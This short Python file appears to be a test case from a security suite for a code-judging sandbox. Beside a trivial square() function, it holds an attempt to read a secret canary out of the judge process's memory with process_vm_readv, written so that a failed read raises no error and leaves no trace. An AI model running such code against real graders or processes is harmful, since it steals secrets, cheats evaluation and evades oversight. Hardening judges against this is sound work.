"""Copies the judge's memory out by a system call, from the address of the secret.

stopped by: undumpable judge
points: all
"""

# The return value is looked at instead of raising, so there is nothing to tell.
import ctypes

length = int("@CANARY_LENGTH@")
kept = ctypes.create_string_buffer(length)
pair = ctypes.c_uint64 * 2
local, remote = pair(ctypes.addressof(kept), length), pair(int("@CANARY_ADDRESS@"), length)
if ctypes.CDLL(None).process_vm_readv(int("@JUDGE@"), local, 1, remote, 1, 0) == length:
    print("REACHED", kept.raw.decode())


def square(x):
    return x * x
